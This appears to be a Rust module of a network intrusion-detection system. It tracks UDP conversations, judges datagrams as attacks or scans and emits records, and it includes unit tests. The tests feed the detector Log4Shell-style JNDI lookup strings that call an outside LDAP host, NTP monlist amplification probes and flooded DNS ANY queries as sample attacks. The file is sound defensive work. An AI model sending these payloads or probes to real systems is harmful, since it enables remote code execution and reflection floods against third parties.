//! UDP on the packet path: which datagrams are followed, their readers, and the records that come of them.

use std::net::IpAddr;

use sha2::Digest as _;

use crate::decode::transport::Datagram;
use crate::detect::Verdict;
use crate::handoff::Record;
use crate::inspect::Path;
use crate::inspect::attempts::{FORGEABLE, Held, account, endpoints, first_word, readable};
use crate::model::attempt::{Attempt, AttemptId, Judgement, Outcome, Transport};
use crate::model::class::Class;
use crate::model::contact::{Act, Contact, Login, Touched};
use crate::model::grade::Grade;
use crate::model::marks::{Mark, Marks};
use crate::model::progress::Counter;
use crate::model::stream::Side;
use crate::model::surge::{Reflector, SurgeKind};
use crate::model::time::Timestamp;
use crate::protocol::datagram::{self, DatagramRow, Message, PROVEN};
use crate::protocol::found::{self, Answered, At, Oddity, Unmet};
use crate::protocol::request::Request;
use crate::protocol::{Reply, RequestMeta, Sink, UNKNOWN};
use crate::stream::datagrams::{Exchange, Listener};

/// Datagrams of a conversation that are asked for their protocol: scanners try several questions from one port.
const RECOGNISED_WITHIN: u32 = 4;
/// The same bytes again within this time are a copy of the capture or the network, not another message (contract §3, Identity).
const COPY_MICROS: i64 = 50_000;
/// Bytes of an unknown payload that are judged as text: what acts in a log line stands near its beginning, and a flood of long
/// datagrams must not buy more work than one of short ones.
const TEXT_MAX_BYTES: usize = 512;
/// Bytes that tell whether a payload is text.
const TEXT_TELL_BYTES: usize = 16;

/// What is kept with each conversation.
#[derive(Debug, Default)]
pub struct Heard {
    row: Option<&'static DatagramRow>,
    memo: u64,
    /// Its first datagram.
    first: Content,
    /// The last one that was looked at, and when.
    last: (Content, Timestamp),
    /// How often in a row the last one was sent again, copies left out.
    repeats: u32,
    /// Whether an attempt was seen in it: the first one opens the session.
    attacked: bool,
}

/// What tells a datagram from the next between the same ports.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
struct Content {
    identification: u32,
    fingerprint: u64,
}

/// Whether a datagram goes from one host to one other. Discovery by multicast and broadcast is addressed to nobody, so
/// that nobody is touched by it.
pub fn is_between_two(datagram: &Datagram<'_>) -> bool {
    let to_many = match datagram.destination.ip() {
        IpAddr::V4(v4) => v4.is_multicast() || v4.is_broadcast() || v4.is_unspecified(),
        IpAddr::V6(v6) => v6.is_multicast() || v6.is_unspecified(),
    };
    !to_many && !datagram.source.ip().is_unspecified()
}

impl Listener for Path {
    type State = Heard;

    fn is_answer(&self, datagram: &Datagram<'_>) -> bool {
        datagram::is_answer(datagram.source.port(), datagram.destination.port(), datagram.payload)
    }

    fn datagram(&mut self, exchange: &Exchange, heard: &mut Heard, from: Side, datagram: &Datagram<'_>) {
        let count = exchange.asked.datagrams.saturating_add(exchange.answered.datagrams);
        if heard.row.is_none() && count > RECOGNISED_WITHIN {
            return;
        }
        let content = Content::of(from, datagram);
        if count == 1 {
            heard.first = content;
        } else if heard.is_copy(content, exchange.now) {
            self.counters.count(Counter::DatagramsRepeated);
            return;
        }
        heard.last = (content, exchange.now);
        let sent = if from == Side::Client { exchange.asked } else { exchange.answered };
        let offset = u64::from(sent.datagrams.saturating_sub(1));
        let at = At { offset, time: exchange.now, frames: 1, app: UNKNOWN };
        let mut message = Message { from, bytes: datagram.payload, port: exchange.server.port(), at };
        heard.row = heard.row.or_else(|| datagram::recognised(&message));
        let mut judge = DatagramJudge::new(self, exchange, heard);
        match judge.heard.row {
            Some(row) => {
                message.at.app = row.name;
                let mut memo = judge.heard.memo;
                (row.read)(&message, &mut memo, &mut judge);
                judge.heard.memo = memo;
            }
            None if count == 1 && from == Side::Client && is_text(message.bytes) => {
                let text = message.bytes.get(..TEXT_MAX_BYTES).unwrap_or(message.bytes);
                judge.text(&message.at, "payload", text);
            }
            None => {}
        }
        judge.hand_on();
    }

    fn touched(&mut self, exchange: &Exchange, heard: &mut Heard, touched: Touched) {
        if self.is_in_flood(exchange.began, exchange.server.ip(), SurgeKind::Udp) {
            return;
        }
        let at = At { offset: 0, time: exchange.began, frames: 1, app: heard.app() };
        let mut judge = DatagramJudge::new(self, exchange, heard);
        let contact = judge.contact(&at, Act::Touched(touched));
        judge.held.push(Held::Contact(contact, 1));
        judge.hand_on();
    }
}

impl Heard {
    const fn app(&self) -> &'static str {
        match self.row {
            Some(row) => row.name,
            None => UNKNOWN,
        }
    }

    /// Whether the same was looked at a moment ago. The same again later is another message with an identity of its own:
    /// many systems send all datagrams of a socket with one identification.
    fn is_copy(&mut self, content: Content, now: Timestamp) -> bool {
        if content != self.last.0 {
            self.repeats = 0;
            return false;
        }
        if now.micros_since(self.last.1) < COPY_MICROS {
            return true;
        }
        self.repeats = self.repeats.saturating_add(1);
        false
    }

    /// Grade of the client's address: anybody can forge that of a datagram.
    const fn grade(&self) -> Grade {
        if self.memo & PROVEN == 0 { Grade::E0 } else { Grade::E2 }
    }
}

impl Content {
    fn of(from: Side, datagram: &Datagram<'_>) -> Self {
        Self {
            identification: datagram.identification,
            fingerprint: fingerprint(from as u64, datagram.payload),
        }
    }
}

/// A number that other bytes hardly have: the same in every worker, run and release, for identities are kept.
fn fingerprint(seed: u64, bytes: &[u8]) -> u64 {
    /// The golden ratio in 64 bits, odd: multiplying by it spreads the low bits upwards.
    const SPREAD: u64 = 0x9e37_79b9_7f4a_7c15;
    let words = bytes.chunks(8).map(|chunk| chunk.iter().fold(0, |word, byte| word << 8 | u64::from(*byte)));
    let start = seed ^ (bytes.len() as u64) << 8;
    words.fold(start, |hash, word| (hash ^ word).wrapping_mul(SPREAD).rotate_left(29))
}

/// Whether a payload of an unknown protocol reads as text.
fn is_text(bytes: &[u8]) -> bool {
    let beginning = bytes.get(..TEXT_TELL_BYTES).unwrap_or(bytes);
    !bytes.is_empty() && beginning.iter().all(|byte| matches!(byte, b' '..=b'~' | b'\t' | b'\r' | b'\n'))
}

/// Judges what one datagram says. Its records leave together, once all that it tells is known.
struct DatagramJudge<'a> {
    path: &'a mut Path,
    exchange: &'a Exchange,
    heard: &'a mut Heard,
    held: Vec<Held>,
    marks: Marks,
}

impl Sink for DatagramJudge<'_> {
    // HTTP/1 is not spoken over UDP.
    fn request(&mut self, _: &RequestMeta, _: &Request<'_>) {}

    fn reply(&mut self, _: u64, _: &Reply<'_>) {}

    fn count(&mut self, counter: Counter) {
        self.path.counters.count(counter);
    }

    fn login(&mut self, at: &At, login: &found::Login<'_>) {
        let act = Act::Login(Login {
            class: login.class,
            accepted: login.accepted,
            account: login.account.and_then(account),
            inferred: login.inferred,
        });
        let contact = self.contact(at, act);
        self.held.push(Held::Contact(contact, 1));
    }

    fn oddity(&mut self, at: &At, oddity: &'static Oddity, excerpt: &[u8]) {
        if oddity.class == Class::ScanService
            && let Some(protocol) = Reflector::of_port(self.exchange.server.port())
            && self.path.asked_to_reflect(self.exchange, protocol)
        {
            return;
        }
        self.answered(at, oddity, excerpt, Answered::default());
    }

    fn answered(&mut self, at: &At, oddity: &'static Oddity, excerpt: &[u8], answered: Answered) {
        let ends = (self.exchange.client, self.exchange.server);
        let verdict = self.path.detector.judge_oddity(at.app, oddity, excerpt, ends);
        self.judged(at, verdict, answered);
    }

    fn unmet(&mut self, at: &At, unmet: Unmet<'_>) {
        // An answer to a question that was not seen may be to one that was never asked.
        if self.exchange.asked.datagrams == 0 {
            return;
        }
        if let Some(unmet) = self.path.unmet(self.exchange.now, unmet, &self.marks) {
            let contact = self.contact(at, Act::Unmet(unmet));
            self.held.push(Held::Contact(contact, 1));
        }
    }

    fn text(&mut self, at: &At, field: &'static str, text: &[u8]) {
        let Path { detector, scratch, .. } = &mut *self.path;
        let verdict = detector.judge_text(at.app, (field, text), self.exchange.server, scratch);
        self.judged(at, verdict, Answered::default());
    }

    fn mark(&mut self, mark: Mark<'_>) {
        self.marks.note(mark);
    }
}

impl<'a> DatagramJudge<'a> {
    fn new(path: &'a mut Path, exchange: &'a Exchange, heard: &'a mut Heard) -> Self {
        Self { path, exchange, heard, held: Vec::new(), marks: Marks::default() }
    }

    fn judged(&mut self, at: &At, verdict: Verdict, answered: Answered) {
        let counter = match verdict {
            Verdict::Attack(judgement) => {
                let mut attempt = self.attempt(at, judgement);
                (attempt.outcome, attempt.inferred) = (answered.outcome, answered.inferred);
                self.held.push(Held::Attempt(attempt));
                Counter::MessagesAttack
            }
            Verdict::Excepted => Counter::RequestsExcepted,
            Verdict::Suspicious => Counter::RequestsSuspicious,
            Verdict::Clean => return,
        };
        self.path.counters.count(counter);
    }

    fn attempt(&mut self, at: &At, judgement: Judgement) -> Box<Attempt> {
        let opens_session = !std::mem::replace(&mut self.heard.attacked, true);
        Box::new(Attempt {
            id: self.identity(b"message", self.heard.last.0, self.heard.repeats),
            time: self.path.by_clock(at.time),
            client: self.exchange.client,
            server: self.exchange.server,
            transport: Transport::Udp,
            app_proto: at.app,
            flow_id: self.flow_id(),
            opens_session,
            grade: Grade::E0,
            // No acknowledgement tells whether an answer was missed or never given.
            one_sided: false,
            inferred: false,
            frames: at.frames.max(1),
            judgement,
            outcome: Outcome::default(),
            marks: Marks::default(),
            http: None,
        })
    }

    fn contact(&self, at: &At, act: Act) -> Contact {
        let Heard { first, last, repeats, .. } = *self.heard;
        let id = match act {
            Act::Touched(_) => self.identity(b"contact", first, 0),
            Act::Login(_) => self.identity(b"login", last.0, repeats),
            Act::Unmet(_) => self.identity(b"unmet", last.0, repeats),
        };
        Contact {
            id,
            time: self.path.by_clock(at.time),
            client: self.exchange.client,
            server: self.exchange.server,
            transport: Transport::Udp,
            app_proto: Some(at.app).filter(|app| *app != UNKNOWN),
            flow_id: self.flow_id(),
            grade: Grade::E0,
            frames: at.frames.max(1),
            act,
            http: None,
            marks: Marks::default(),
        }
    }

    /// Identity (contract §3): the 5-tuple, the packet's identification, what its payload is.
    fn identity(&self, what: &[u8], content: Content, repeats: u32) -> AttemptId {
        let mut hash = endpoints(self.exchange.client, self.exchange.server, Transport::Udp);
        if self.exchange.forgeable {
            hash.update(FORGEABLE);
        }
        hash.update(content.identification.to_be_bytes());
        hash.update(content.fingerprint.to_be_bytes());
        hash.update(repeats.to_be_bytes());
        hash.update(what);
        AttemptId(first_word(hash))
    }

    fn flow_id(&self) -> u64 {
        readable(self.identity(b"flow", self.heard.first, 0).0)
    }

    /// Hands on what the datagram told, with what its conversation proves by now.
    fn hand_on(self) {
        let Self { path, exchange, heard, held, marks } = self;
        let grade = if exchange.forgeable { Grade::E0 } else { heard.grade() };
        for record in held {
            match record {
                Held::Attempt(mut attempt) => {
                    (attempt.grade, attempt.marks) = (grade, marks.clone());
                    path.send(Record::Attempt(attempt), Counter::ChannelDrops);
                }
                // Requests present credentials over TCP alone.
                Held::Credential(_) => {}
                Held::Contact(contact, _) => {
                    let contact = Contact { grade, marks: marks.clone(), ..contact };
                    path.send(Record::Contact(contact), Counter::ContactDrops);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use crossbeam_channel::Receiver;

    use super::*;
    use crate::capture::Sink as _;
    use crate::config::Settings;
    use crate::detect::Detector;
    use crate::handoff::{Outbox, Parcel, WhenFull, channel};
    use crate::inspect::Inspector;
    use crate::inspect::detector_cell::DetectorCell;
    use crate::inspect::limits::limits;
    use crate::model::class::Class;
    use crate::model::frame::{Frame, Link};
    use crate::model::progress::Counters;
    use crate::model::time::MICROS_PER_SEC;
    use crate::testing::{ip, quoting, raw, udp};

    const CLIENT: &str = "198.51.100.2:40000";
    const SERVER: &str = "203.0.113.10:4711";

    struct Run {
        inspector: Inspector,
        receiver: Receiver<Parcel>,
        now: i64,
    }

    impl Run {
        fn new() -> Self {
            let (sender, receiver) = channel(100_000);
            let detector = Arc::new(Detector::new(&Settings::default()).unwrap());
            let outbox = Outbox::new(sender, 0, WhenFull::DropNewest);
            let inspector = Inspector::new(limits(32 << 20), Arc::new(DetectorCell::new(detector)), outbox);
            Self { inspector, receiver, now: 1_338_508_800 * MICROS_PER_SEC }
        }

        /// A packet, so many microseconds after the last one.
        fn after(&mut self, micros: i64, packet: &[u8]) {
            self.now += micros;
            self.inspector.frame(&raw(self.now, packet));
        }

        fn send(&mut self, micros: i64, source: &str, destination: &str, data: &[u8]) {
            self.after(micros, &udp(source.parse().unwrap(), destination.parse().unwrap(), data));
        }

        fn ended(mut self) -> (Vec<Attempt>, Vec<Contact>, Counters) {
            self.inspector.finish();
            let (mut attempts, mut contacts, mut counters) = (Vec::new(), Vec::new(), Counters::default());
            while let Ok((_, record)) = self.receiver.try_recv() {
                match record {
                    Record::Attempt(attempt) => attempts.push(*attempt),
                    Record::Contact(contact) => contacts.push(contact),
                    Record::Progress(progress) => counters.merge(&progress.counters),
                    Record::Surge(_) => {}
                }
            }
            (attempts, contacts, counters)
        }
    }

    #[test]
    fn a_first_contact_is_told_once_with_its_own_time_and_an_identity_that_holds() {
        let told = || {
            let mut run = Run::new();
            let began = run.now;
            run.send(0, CLIENT, SERVER, b"\x01\x02");
            run.send(1_000, CLIENT, SERVER, b"\x03");
            run.send(1_000, SERVER, CLIENT, b"\x04");
            run.send(5_000_000, CLIENT, "203.0.113.10:4712", b"");
            let (attempts, contacts, counters) = run.ended();
            assert!(attempts.is_empty());
            assert_eq!(counters.value(Counter::DatagramFlowsOpened), 2);
            assert_eq!(contacts[0].time, Timestamp(began));
            contacts
        };
        let contacts = told();
        let acts: Vec<_> = contacts.iter().map(|contact| contact.act).collect();
        assert_eq!(acts, [Act::Touched(Touched::Answered), Act::Touched(Touched::Silent)]);
        assert_eq!((contacts[0].grade, contacts[0].transport), (Grade::E0, Transport::Udp));
        assert_eq!(
            (contacts[0].client, contacts[0].server),
            (CLIENT.parse().unwrap(), SERVER.parse().unwrap())
        );
        assert_ne!(contacts[0].id, contacts[1].id);
        assert_eq!(told(), contacts, "the same packets are the same acts");
    }

    #[test]
    fn an_icmp_error_refuses_the_contact_it_quotes() {
        let mut run = Run::new();
        let packet = udp(CLIENT.parse().unwrap(), SERVER.parse().unwrap(), b"x");
        run.after(0, &packet);
        run.after(100, &quoting("203.0.113.10".parse().unwrap(), (3, 3), &packet));
        let other = udp(CLIENT.parse().unwrap(), "203.0.113.11:9".parse().unwrap(), b"x");
        run.after(100, &other);
        run.after(100, &quoting("203.0.113.1".parse().unwrap(), (3, 13), &other));
        let (_, contacts, _) = run.ended();
        let acts: Vec<_> = contacts.iter().map(|contact| contact.act).collect();
        assert_eq!(acts, [Act::Touched(Touched::Refused), Act::Touched(Touched::Unreachable)]);
    }

    #[test]
    fn what_is_for_many_touches_nobody() {
        let mut run = Run::new();
        for (source, destination) in [
            (CLIENT, "239.255.255.250:1900"),
            (CLIENT, "255.255.255.255:67"),
            ("0.0.0.0:68", "203.0.113.10:67"),
            ("[fe80::1]:5353", "[ff02::fb]:5353"),
        ] {
            run.send(10, source, destination, b"${jndi:ldap://198.51.100.7/a}");
        }
        let packet = udp(CLIENT.parse().unwrap(), "203.0.113.255:137".parse().unwrap(), b"x");
        let bytes = [&[0xff; 6], &[2; 6], &[8, 0][..], &packet].concat();
        let length = bytes.len() as u32;
        let link = Link::Ethernet;
        run.inspector.frame(&Frame { time: Timestamp(run.now), bytes: &bytes, length, link });
        let (attempts, contacts, counters) = run.ended();
        assert!(attempts.is_empty() && contacts.is_empty());
        assert_eq!(counters.value(Counter::FrameUdp), 5);
    }

    #[test]
    fn text_of_an_unknown_protocol_is_judged_and_a_copy_of_it_is_not() {
        let mut run = Run::new();
        let line = b"<13>host app: ${jndi:ldap://198.51.100.7:1389/a}";
        run.send(0, CLIENT, SERVER, line);
        run.send(10_000, CLIENT, SERVER, line);
        run.send(0, CLIENT, "203.0.113.10:514", &[b"\0\0\0", &line[..]].concat());
        let (attempts, _, counters) = run.ended();
        assert_eq!(attempts.len(), 1);
        let attempt = &attempts[0];
        assert_eq!((attempt.transport, attempt.grade), (Transport::Udp, Grade::E0));
        assert_eq!(attempt.judgement.class, Class::ExploitService);
        assert!(attempt.opens_session && attempt.app_proto == UNKNOWN);
        assert_eq!(counters.value(Counter::DatagramsRepeated), 1);
        assert_eq!(counters.value(Counter::MessagesAttack), 1);
    }

    #[test]
    fn a_probe_is_an_attempt_each_time_it_is_sent_and_once_however_often_it_is_copied() {
        let mut run = Run::new();
        let monlist = b"\x17\0\x03\x2a\0\0\0\0";
        let server = "203.0.113.10:123";
        for _ in 0..3 {
            run.send(200_000, CLIENT, server, monlist);
            run.send(5, CLIENT, server, monlist);
        }
        run.send(10, server, CLIENT, &[0xd7; 440]);
        let (attempts, contacts, counters) = run.ended();
        assert_eq!((attempts.len(), contacts.len()), (3, 1));
        let ids: std::collections::HashSet<_> = attempts.iter().map(|attempt| attempt.id).collect();
        assert_eq!(ids.len(), 3);
        assert_eq!((attempts[0].app_proto, attempts[0].judgement.class), ("ntp", Class::ScanService));
        assert!(attempts[0].opens_session && !attempts[1].opens_session);
        assert_eq!(contacts[0].app_proto, Some("ntp"));
        assert_eq!(counters.value(Counter::DatagramsRepeated), 3);
    }

    #[test]
    fn forged_queries_are_attempts_until_they_are_a_flood() {
        let any = |number: u16| {
            let id = number.to_be_bytes();
            [&id[..], b"\x01\0\0\x01\0\0\0\0\0\0\0\0\xff\0\x01"].concat()
        };
        for (queries, attempts_told) in [(90_u16, 90), (2_400, 99)] {
            let mut run = Run::new();
            for number in 0..queries {
                run.send(3_333, CLIENT, "203.0.113.10:53", &any(number));
            }
            let (attempts, _, counters) = run.ended();
            assert_eq!(attempts.len(), attempts_told);
            assert!(attempts.iter().all(|attempt| attempt.judgement.class == Class::ScanService));
            let told_as_a_surge = counters.value(Counter::ContactsInFloods);
            // The first contact is part of the flood as well.
            let contacts = u64::from(queries > 100);
            assert_eq!(attempts_told as u64 + told_as_a_surge, u64::from(queries) + contacts);
        }
    }

    #[test]
    fn a_datagram_in_fragments_is_one_contact() {
        let mut run = Run::new();
        let (client, server) = (CLIENT.parse().unwrap(), SERVER.parse().unwrap());
        let whole = udp(client, server, &[b'\x01'; 40]);
        let transport = &whole[20..];
        for (offset, more, part) in [(0_u16, 0x20, &transport[..24]), (3, 0, &transport[24..])] {
            let mut packet = ip(client.ip(), server.ip(), 17, part);
            packet[4..8].copy_from_slice(&[0, 9, more, offset as u8]);
            run.after(10, &packet);
        }
        let (_, contacts, counters) = run.ended();
        assert_eq!(contacts.len(), 1);
        assert_eq!((counters.value(Counter::FrameFragment), counters.outcomes()), (2, 2));
    }

    #[test]
    fn fingerprints_differ_by_content_length_and_side() {
        let all = [
            fingerprint(0, b""),
            fingerprint(1, b""),
            fingerprint(0, b"\0"),
            fingerprint(0, b"\0\0"),
            fingerprint(0, b"12345678"),
            fingerprint(0, b"123456789"),
        ];
        let distinct: std::collections::HashSet<_> = all.iter().collect();
        assert_eq!(distinct.len(), all.len());
    }

    #[test]
    fn what_is_kept_of_a_conversation_fits_its_slot() {
        assert!(size_of::<Heard>() <= 72, "{}", size_of::<Heard>());
    }
}
